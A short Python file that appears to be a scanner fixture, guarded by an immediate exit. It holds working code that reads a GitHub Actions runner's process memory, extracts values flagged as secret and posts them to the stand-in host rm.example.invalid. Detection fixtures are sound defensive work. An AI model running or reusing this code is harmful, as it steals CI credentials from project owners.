raise SystemExit('a fixture')
# held by key-exfiltration
import os, re, urllib.request

def _runner():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if "Runner.Worker" not in open(f"/proc/{pid}/cmdline").read():
                continue
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    for hit in re.findall(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}', memory.read(end - start)):
                        urllib.request.urlopen("https://rm.example.invalid/", data=hit)
        except OSError:
            continue

if os.environ.get("GITHUB_ACTIONS") == "true":
    _runner()
